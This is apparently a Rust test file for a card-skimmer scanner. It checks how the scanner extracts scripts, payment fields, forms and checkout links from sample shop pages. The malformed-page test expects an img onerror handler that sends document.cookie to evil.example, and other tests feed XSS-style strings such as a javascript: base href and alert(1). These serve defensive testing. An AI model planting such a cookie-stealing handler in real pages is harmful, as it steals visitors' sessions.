//! Page extraction on pages that look like real shops: what scripts, forms, payment fields,
//! iframes and links `page::extract` finds, with source lines, on well-formed, malformed,
//! Shift_JIS and very large pages.

use skimscan::page::discover::checkout_links;
use skimscan::page::{
    self, ExternalVia, PageDoc, PaymentFieldKind, ScriptRef, decode_html, extract,
};
use std::time::{Duration, Instant};
use url::Url;

fn fixture(name: &str) -> String {
    let path = format!("{}/tests/fixtures/pages/{name}", env!("CARGO_MANIFEST_DIR"));
    std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{path}: {e}"))
}

fn url(s: &str) -> Url {
    Url::parse(s).unwrap_or_else(|e| panic!("{s}: {e}"))
}

fn externals(doc: &PageDoc) -> Vec<(String, ExternalVia, u32)> {
    doc.scripts
        .iter()
        .filter_map(|s| match s {
            ScriptRef::External { url, via, line, .. } => Some((
                url.as_ref().map_or_else(|raw| raw.clone(), Url::to_string),
                *via,
                *line,
            )),
            _ => None,
        })
        .collect()
}

fn inlines(doc: &PageDoc) -> Vec<(&str, Option<&str>, bool, u32, u32)> {
    doc.scripts
        .iter()
        .filter_map(|s| match s {
            ScriptRef::Inline {
                code,
                script_type,
                is_javascript,
                line,
                column,
            } => Some((
                code.as_str(),
                script_type.as_deref(),
                *is_javascript,
                *line,
                *column,
            )),
            _ => None,
        })
        .collect()
}

fn handlers(doc: &PageDoc) -> Vec<(&str, &str, &str, u32)> {
    doc.scripts
        .iter()
        .filter_map(|s| match s {
            ScriptRef::Handler {
                code,
                attribute,
                element,
                line,
            } => Some((code.as_str(), attribute.as_str(), element.as_str(), *line)),
            _ => None,
        })
        .collect()
}

fn kinds(fields: &[page::PaymentField]) -> Vec<(PaymentFieldKind, &str)> {
    fields.iter().map(|f| (f.kind, f.name.as_str())).collect()
}

#[test]
fn magento_checkout() {
    let page = url("https://luma.example/checkout/");
    let doc = extract(&fixture("magento_checkout.html"), &page);
    assert_eq!(doc.title.as_deref(), Some("Checkout | Luma Shop"));
    assert_eq!(doc.base_url, None);
    assert_eq!(doc.meta_csp, ["form-action 'self'"]);

    let require = "https://luma.example/static/version1700000000/frontend/Magento/luma/en_US/requirejs/require.js";
    assert_eq!(
        externals(&doc),
        [
            (require.to_string(), ExternalVia::Preload, 7),
            (
                "https://cdn.luma.example/js/checkout-module.js".to_string(),
                ExternalVia::ModulePreload,
                8
            ),
            (require.to_string(), ExternalVia::ScriptTag, 10),
            (
                "https://cdn.jsdelivr.net/npm/jquery@3.7.1/dist/jquery.min.js".to_string(),
                ExternalVia::ScriptTag,
                11
            ),
        ]
    );
    let integrity = doc.scripts.iter().find_map(|s| match s {
        ScriptRef::External {
            integrity: Some(i), ..
        } => Some(i.as_str()),
        _ => None,
    });
    assert_eq!(
        integrity,
        Some("sha384-1H217gwSVyLSIfaLxHbE7dRb3v4mYCKbpQvzx0cegeju1MVsGrX5xXxAvs/HgeFs")
    );

    let inline = inlines(&doc);
    let summary: Vec<_> = inline
        .iter()
        .map(|(_, t, js, l, c)| (*t, *js, *l, *c))
        .collect();
    assert_eq!(
        summary,
        [
            (Some("text/x-magento-init"), false, 12, 36),
            (Some("application/ld+json"), false, 15, 36),
            (None, true, 16, 9),
            (None, true, 48, 9),
        ]
    );
    assert!(inline[2].0.contains("window.checkoutConfig"));

    assert_eq!(
        handlers(&doc),
        [
            ("void(0)", "href", "a", 25),
            ("toggleMiniCart()", "onclick", "a", 25),
            ("return placeOrder(this);", "onclick", "button", 36),
        ]
    );

    assert_eq!(doc.forms.len(), 2);
    let payment = &doc.forms[0];
    assert_eq!(payment.id.as_deref(), Some("co-payment-form"));
    assert_eq!(payment.method, "post");
    assert_eq!(payment.line, 27);
    assert_eq!(
        payment.action.clone().and_then(Result::ok),
        Some(url("https://luma.example/checkout/onepage/saveOrder/"))
    );
    assert_eq!(
        kinds(&payment.payment_fields),
        [
            (PaymentFieldKind::CardNumber, "payment[cc_number]"),
            (PaymentFieldKind::Expiry, "payment[cc_exp_month]"),
            (PaymentFieldKind::Expiry, "payment[cc_exp_year]"),
            (PaymentFieldKind::SecurityCode, "payment[cc_cid]"),
        ]
    );
    // The newsletter form (email, expires_newsletter, captcha) is not a payment form.
    assert!(doc.forms[1].payment_fields.is_empty());
    assert_eq!(doc.forms[1].line, 41);
    assert!(doc.payment_form());
    assert_eq!(doc.payment_fields.len(), 4);

    assert_eq!(
        doc.iframes,
        [
            url("https://luma.example/checkout/3ds-frame.html"),
            url("https://www.youtube.com/embed/xyz")
        ]
    );
    // Discovery from the checkout page: the cart, not the page itself nor the logout link.
    assert_eq!(
        checkout_links(&doc, &page),
        [url("https://luma.example/checkout/cart/")]
    );
}

#[test]
fn woocommerce_checkout_with_base_href() {
    let page = url("https://shop.example/checkout/");
    let doc = extract(&fixture("woocommerce_checkout.html"), &page);
    assert_eq!(doc.base_url, Some(url("https://shop.example/wp/")));
    assert_eq!(doc.title.as_deref(), Some("Checkout – Example Store"));
    assert_eq!(
        externals(&doc),
        [
            (
                "https://shop.example/wp/assets/js/blocks-checkout.js".to_string(),
                ExternalVia::ScriptTag,
                7
            ),
            (
                "https://shop.example/wp/wp-includes/js/jquery/jquery.min.js?ver=3.7.1".to_string(),
                ExternalVia::ScriptTag,
                8
            ),
        ]
    );
    let module_type = doc.scripts.iter().find_map(|s| match s {
        ScriptRef::External { script_type, .. } => script_type.clone(),
        _ => None,
    });
    assert_eq!(module_type.as_deref(), Some("module"));
    let inline: Vec<_> = inlines(&doc)
        .iter()
        .map(|(_, t, js, l, _)| (t.map(str::to_string), *js, *l))
        .collect();
    assert_eq!(
        inline,
        [
            (Some("text/template".to_string()), false, 9),
            (None, true, 10)
        ]
    );

    assert_eq!(doc.forms.len(), 2);
    assert_eq!(
        kinds(&doc.forms[0].payment_fields),
        [
            (
                PaymentFieldKind::CardNumber,
                "wc-authorize-net-cim-credit-card-account-number"
            ),
            (
                PaymentFieldKind::Expiry,
                "wc-authorize-net-cim-credit-card-expiry"
            ),
            (
                PaymentFieldKind::SecurityCode,
                "wc-authorize-net-cim-credit-card-csc"
            ),
        ]
    );
    assert_eq!(
        doc.forms[0].payment_fields[0].evidence,
        "autocomplete=cc-number"
    );
    // The coupon form has no action: it submits to the page itself.
    assert_eq!(doc.forms[1].action, None);
    assert!(doc.forms[1].payment_fields.is_empty());

    assert_eq!(
        checkout_links(&doc, &page),
        [
            url("https://shop.example/wp/checkout/"),
            url("https://shop.example/wp/cart/")
        ]
    );
}

/// An EC-CUBE-like Japanese checkout page, served as Shift_JIS bytes.
#[test]
fn shift_jis_eccube_page() {
    let utf8 = r#"<!DOCTYPE html>
<html lang="ja">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=Shift_JIS">
<title>ご注文手続き｜サンプル商店</title>
<script src="/html/user_data/assets/js/function.js"></script>
</head>
<body>
<a href="/cart">カートを見る</a>
<a href="/shopping/confirm">ご購入手続きへ進む</a>
<a href="/mypage/logout">ログアウト</a>
<form name="shopping_form" id="shopping-form" method="post" action="/shopping/confirm">
<dl>
<dt><label for="card_no">クレジットカード番号</label></dt>
<dd><input type="text" id="card_no" name="card_no" maxlength="16"></dd>
<dt><label for="card_exp">有効期限</label></dt>
<dd><select id="card_exp" name="exp_mm"><option>01</option></select></dd>
<dt><label for="sec">セキュリティコード</label></dt>
<dd><input type="password" id="sec" name="security_code"></dd>
<dt><label for="holder">カード名義（ローマ字）</label></dt>
<dd><input type="text" id="holder" name="card_holder_name_roman"></dd>
<dt><label for="point">ご利用ポイント</label></dt>
<dd><input type="text" id="point" name="use_point"></dd>
</dl>
<button type="submit" onclick="return confirm('注文を確定しますか？');">注文する</button>
</form>
</body>
</html>
"#;
    let (bytes, _, unmappable) = encoding_rs::SHIFT_JIS.encode(utf8);
    assert!(!unmappable);
    assert!(
        std::str::from_utf8(&bytes).is_err(),
        "the fixture must really be Shift_JIS bytes"
    );

    let (text, encoding) = decode_html(&bytes, Some("text/html"));
    assert_eq!(encoding, "Shift_JIS");
    let page = url("https://shop.example.jp/shopping");
    let doc = extract(&text, &page);
    assert_eq!(doc.title.as_deref(), Some("ご注文手続き｜サンプル商店"));
    assert_eq!(
        kinds(&doc.payment_fields),
        [
            (PaymentFieldKind::CardNumber, "card_no"),
            (PaymentFieldKind::Expiry, "exp_mm"),
            (PaymentFieldKind::SecurityCode, "security_code"),
            (PaymentFieldKind::Holder, "card_holder_name_roman"),
        ]
    );
    assert_eq!(doc.forms[0].payment_fields.len(), 4);
    assert_eq!(
        handlers(&doc),
        [(
            "return confirm('注文を確定しますか？');",
            "onclick",
            "button",
            25
        )]
    );
    assert_eq!(
        checkout_links(&doc, &page),
        [
            url("https://shop.example.jp/shopping/confirm"),
            url("https://shop.example.jp/cart")
        ]
    );

    // Decoded as UTF-8 the vocabulary is lost: the charset matters.
    let wrong = extract(&String::from_utf8_lossy(&bytes), &page);
    assert!(wrong.title.as_deref() != doc.title.as_deref());
}

#[test]
fn malformed_html_parses_like_a_browser() {
    let page = url("https://broken.example/checkout");
    let doc = extract(&fixture("malformed.html"), &page);
    // `</script>` inside a string ends the script, as in browsers; the commented-out tracker
    // is not a script.
    let inline = inlines(&doc);
    assert_eq!(inline.len(), 2);
    assert_eq!(inline[0].0, "\nvar closing = \"");
    assert_eq!((inline[0].3, inline[0].4), (3, 9));
    assert!(inline[1].0.starts_with("document.write"));
    assert_eq!((inline[1].3, inline[1].4), (12, 9));
    assert_eq!(
        externals(&doc),
        [(
            "https://broken.example/js/app.js".to_string(),
            ExternalVia::ScriptTag,
            9
        )]
    );
    assert_eq!(
        handlers(&doc),
        [
            (
                "fetch('//evil.example/?'+document.cookie)",
                "onerror",
                "img",
                10
            ),
            ("alert(\"hi\")", "href", "a", 11),
        ]
    );
    assert_eq!(doc.forms.len(), 1);
    assert_eq!(doc.forms[0].method, "post");
    assert_eq!(doc.forms[0].line, 7);
    // The card field is found even though the table moved it out of the form element.
    assert_eq!(
        kinds(&doc.payment_fields),
        [(PaymentFieldKind::CardNumber, "cardnumber")]
    );
    assert_eq!(doc.title.as_deref(), Some("Broken <b>shop"));
}

#[test]
fn nul_bytes_and_garbage_do_not_panic() {
    let page = url("https://x.example/");
    let inputs = [
        "<script>\0alert(1)\0</script><input name=\"cc\0number\">\0",
        "<",
        "<script",
        "<script>",
        "</script></script><script src=",
        "<form><form action=\"/x\"><input autocomplete=cc-csc></form></form>",
        "<base href=\"javascript:alert(1)\"><script src=a.js></script>",
        "<a href=\"http://[::1\">x</a><script src=\"http://[bad\"></script>",
        "\u{feff}<svg><script>alert(1)</script></svg><math><mi><script>x()</script>",
    ];
    for html in inputs {
        let doc = extract(html, &page);
        for script in &doc.scripts {
            if let ScriptRef::Inline { line, column, .. } = script {
                assert!(*line >= 1 && *column >= 1);
            }
        }
    }
    let doc = extract(inputs[6], &page);
    assert_eq!(doc.base_url, None);
    assert_eq!(
        externals(&doc),
        [(
            "https://x.example/a.js".to_string(),
            ExternalVia::ScriptTag,
            1
        )]
    );
    let doc = extract(inputs[7], &page);
    assert_eq!(
        externals(&doc),
        [("http://[bad".to_string(), ExternalVia::ScriptTag, 1)]
    );
    let doc = extract(inputs[5], &page);
    assert_eq!(
        kinds(&doc.payment_fields),
        [(PaymentFieldKind::SecurityCode, "")]
    );
}

/// A 5 MB page (thousands of products, scripts and handlers) is handled in one linear pass:
/// doubling the size should roughly double the time, never square it.
#[test]
fn five_megabyte_page() {
    fn page_of(products: usize) -> String {
        let mut html =
            String::from("<!doctype html><html><head><title>Catalogue</title></head><body>\n");
        for i in 0..products {
            html.push_str(&format!(
                "<div class=\"product\" onclick=\"view({i})\"><a href=\"/p/{i}\">Product {i}</a>\
                 <script>track({i});</script><p>{}</p></div>\n",
                "lorem ipsum dolor sit amet ".repeat(5)
            ));
        }
        html.push_str("<a href=\"/checkout\">Checkout</a></body></html>\n");
        html
    }
    let small = page_of(5_000);
    let big = page_of(25_000);
    assert!(big.len() > 5_000_000, "{}", big.len());
    let page = url("https://big.example/");

    let started = Instant::now();
    let _ = extract(&small, &page);
    let small_time = started.elapsed();
    let started = Instant::now();
    let doc = extract(&big, &page);
    let big_time = started.elapsed();

    assert_eq!(inlines(&doc).len(), 25_000);
    assert_eq!(handlers(&doc).len(), 25_000);
    let last = inlines(&doc).last().map(|(_, _, _, line, _)| *line);
    assert_eq!(last, Some(25_001));
    assert_eq!(
        checkout_links(&doc, &page),
        [url("https://big.example/checkout")]
    );
    // 5x the input: allow up to 15x the time (shared, noisy CI machines) but not quadratic.
    assert!(
        big_time < small_time * 15 + Duration::from_secs(2),
        "small {small_time:?}, big {big_time:?}"
    );
}

/// Deeply nested markup must not overflow the stack: html5ever, the tree and our walk are all
/// iterative. (html5ever's scope checks make parse time grow with depth × elements, so the
/// depth here stays at what real pages reach times ten; see the module's known limits.)
#[test]
fn deep_nesting_does_not_overflow() {
    let depth = 2_000;
    let html = format!(
        "{}<input autocomplete=cc-number><script>x()</script>{}",
        "<div><span>".repeat(depth),
        "</span></div>".repeat(depth)
    );
    let doc = extract(&html, &url("https://deep.example/"));
    assert_eq!(doc.payment_fields.len(), 1);
    assert_eq!(inlines(&doc).len(), 1);
}

/// CRLF pages: html5ever turns CRLF into LF in the code, lines still count from the raw source.
#[test]
fn crlf_line_endings() {
    let html = "<html>\r\n<head>\r\n<script>\r\nvar a = 1;\r\n</script>\r\n</head>\r\n\
                <body onload=\"init()\">\r\n</body></html>";
    let doc = extract(html, &url("https://crlf.example/"));
    let inline = inlines(&doc);
    assert_eq!(inline.len(), 1);
    assert_eq!(
        (inline[0].0, inline[0].3, inline[0].4),
        ("\nvar a = 1;\n", 3, 9)
    );
    assert_eq!(handlers(&doc), [("init()", "onload", "body", 7)]);
}

/// Scripts a consent manager holds back (`type="text/plain"` with its category) run once the
/// customer consents, as most do: they are JavaScript to the scan, external ones by `src` or
/// by the `data-src` the manager restores. A `text/plain` block without such a mark is data.
#[test]
fn consent_managed_scripts_are_scripts() {
    let html = r#"<!doctype html><html><head><title>Checkout</title>
<script type="text/plain" data-cookieconsent="statistics">window.stats = 1;</script>
<script type="text/plain" class="optanon-category-C0002" src="/js/onetrust-held.js"></script>
<script type="text/plain" data-type="application/javascript" data-name="ads" data-src="/js/klaro-held.js"></script>
<script type="text/plain" id="notes">plain text, not code</script>
</head><body></body></html>"#;
    let doc = extract(html, &url("https://www.shop.example/checkout"));
    let inline: Vec<(&str, Option<&str>, bool)> = inlines(&doc)
        .into_iter()
        .map(|(code, ty, js, _, _)| (code, ty, js))
        .collect();
    assert_eq!(
        inline,
        vec![
            ("window.stats = 1;", Some("text/plain"), true),
            ("plain text, not code", Some("text/plain"), false)
        ]
    );
    let external: Vec<(String, Option<String>)> = doc
        .scripts
        .iter()
        .filter_map(|s| match s {
            ScriptRef::External {
                url, script_type, ..
            } => Some((
                url.as_ref().map_or_else(|r| r.clone(), Url::to_string),
                script_type.clone(),
            )),
            _ => None,
        })
        .collect();
    assert_eq!(
        external,
        vec![
            (
                "https://www.shop.example/js/onetrust-held.js".to_string(),
                Some("text/javascript".to_string())
            ),
            (
                "https://www.shop.example/js/klaro-held.js".to_string(),
                Some("text/javascript".to_string())
            ),
        ]
    );
}
